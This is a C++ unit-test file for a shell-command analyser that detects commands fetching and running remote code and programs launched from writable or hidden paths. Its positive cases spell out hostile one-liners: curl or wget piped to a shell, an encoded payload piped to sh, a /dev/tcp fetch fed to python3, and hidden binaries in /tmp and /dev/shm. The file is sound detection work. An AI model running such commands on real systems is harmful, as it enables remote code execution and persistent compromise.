#include <gtest/gtest.h>

#include "analysis/shell_command.hpp"

using namespace ctguard;

TEST(ShellCommand, FetchedCodeThatRuns) {
    EXPECT_TRUE(runs_fetched_code("curl -fsSL http://198.18.0.9/x.sh | sh"));
    EXPECT_TRUE(runs_fetched_code("wget -qO- http://198.18.0.9/i|bash"));
    EXPECT_TRUE(runs_fetched_code("/bin/sh -c \"wget -qO- http://x/i | bash\""));
    EXPECT_TRUE(runs_fetched_code("bash -c \"$(curl -s http://x/a)\""));
    EXPECT_TRUE(runs_fetched_code("bash <(curl -s http://x/a)"));
    EXPECT_TRUE(runs_fetched_code("wget http://x/k -O /tmp/k; chmod +x /tmp/k; /tmp/k"));
    EXPECT_TRUE(runs_fetched_code("curl -o /usr/bin/k http://x && chmod 755 /usr/bin/k"));
    EXPECT_TRUE(runs_fetched_code("echo Y3VybCB4fHNo | base64 -d | sh"));
    EXPECT_TRUE(runs_fetched_code("exec 3<>/dev/tcp/198.18.0.9/80; cat <&3 | python3"));
    EXPECT_TRUE(runs_fetched_code("curl -s http://x/a | sudo /usr/bin/bash -s"));
}

TEST(ShellCommand, DownloadsOrRunsButNotBoth) {
    EXPECT_FALSE(runs_fetched_code("curl -s -o /var/cache/list http://x/list"));  // fetched, not run
    EXPECT_FALSE(runs_fetched_code("ls | sh"));                                   // run, not fetched
    EXPECT_FALSE(runs_fetched_code("IP=$(curl -s https://ifconfig.me)"));
    EXPECT_FALSE(runs_fetched_code("/usr/bin/curlftpfs /mnt | shasum"));
    EXPECT_FALSE(
        runs_fetched_code("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"));
    EXPECT_FALSE(runs_fetched_code("chmod 600 /root/.ssh/authorized_keys"));
}

TEST(ShellCommand, ProgramsFromWritablePlaces) {
    EXPECT_EQ(writable_exec_path("/tmp/.x/kworker >/dev/null 2>&1"), "/tmp/.x/kworker");
    EXPECT_EQ(writable_exec_path("nohup /var/tmp/.cache/kthreadd &"), "/var/tmp/.cache/kthreadd");
    EXPECT_EQ(writable_exec_path("cd /dev/shm && ./run"), "/dev/shm/run");
    EXPECT_EQ(writable_exec_path("sh /tmp/install.sh"), "/tmp/install.sh");
    EXPECT_EQ(writable_exec_path("FOO=1 setsid -f /usr/bin/.sshd"), "/usr/bin/.sshd");
    EXPECT_EQ(writable_exec_path("/usr/bin/true; /root/.configrc/a/upd"), "/root/.configrc/a/upd");
    EXPECT_EQ(writable_exec_path("/bin/sh -c \"/dev/shm/.k/run -c cfg\""), "/dev/shm/.k/run");
}

TEST(ShellCommand, ArgumentsAndRedirectionsAreNotPrograms) {
    EXPECT_FALSE(writable_exec_path("find /tmp -type f -mtime +7 -delete"));
    EXPECT_FALSE(writable_exec_path("/usr/sbin/logrotate /etc/logrotate.conf > /tmp/.log 2>&1"));
    EXPECT_FALSE(writable_exec_path("cd / && run-parts --report /etc/cron.hourly"));
    EXPECT_FALSE(writable_exec_path("/usr/local/bin/myapp --port 8080"));
    EXPECT_FALSE(writable_exec_path("[ -f ~/.bash_aliases ] && . ~/.bash_aliases", true));
    EXPECT_FALSE(writable_exec_path(". \"$HOME/.cargo/env\"", true));
    EXPECT_EQ(writable_exec_path(". \"$HOME/.cargo/env\"", false), "$HOME/.cargo/env");
    EXPECT_EQ(writable_exec_path("/tmp/a", true), "/tmp/a");  // home dots are fine, /tmp never
}

TEST(ShellCommand, MegabyteLineIsNotJudged) {
    // std::regex recursed once per character: a 1 MB line overflowed the stack.
    std::string line = "curl -s http://x/a | sh #" + std::string(1 << 20, 'a');
    EXPECT_FALSE(runs_fetched_code(line));
    EXPECT_TRUE(runs_fetched_code(line.substr(0, max_command_length)));
}
